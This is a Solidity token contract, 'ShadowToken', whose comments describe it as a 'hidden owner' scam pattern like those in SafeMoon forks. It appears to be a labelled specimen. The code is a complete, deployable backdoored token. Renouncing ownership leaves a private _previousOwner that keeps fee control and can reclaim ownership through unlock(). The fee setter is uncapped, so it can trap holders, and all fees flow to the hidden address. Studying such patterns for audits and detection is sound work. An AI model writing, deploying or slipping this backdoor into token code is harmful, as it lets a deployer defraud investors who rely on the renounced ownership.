// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title Hidden owner: owner() reads zero after renounceOwnership, but a
/// second stored address keeps changing the fee and can take ownership back.
contract ShadowToken {
    string public constant name = "Shadow Finance";
    string public constant symbol = "SHADOW";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    uint256 public taxFee;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    address private _owner;
    address private _previousOwner; // never cleared: the hidden owner

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier authorized() {
        require(msg.sender == _owner || msg.sender == _previousOwner, "caller is not authorized");
        _;
    }

    constructor(uint256 supply) {
        _owner = msg.sender;
        _previousOwner = msg.sender;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, supply);
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external authorized {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    /// @notice "Unlock" after a lock period, in the wording of SafeMoon forks.
    function unlock() external {
        require(msg.sender == _previousOwner, "You don't have permission to unlock");
        emit OwnershipTransferred(_owner, _previousOwner);
        _owner = _previousOwner;
    }

    function setTaxFeePercent(uint256 fee) external authorized {
        taxFee = fee;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) {
            allowance[from][msg.sender] -= amount;
        }
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        uint256 fee = from == _previousOwner ? 0 : (amount * taxFee) / 100;
        balanceOf[from] -= amount;
        if (fee > 0) {
            balanceOf[_previousOwner] += fee;
            emit Transfer(from, _previousOwner, fee);
        }
        balanceOf[to] += amount - fee;
        emit Transfer(from, to, amount - fee);
    }
}
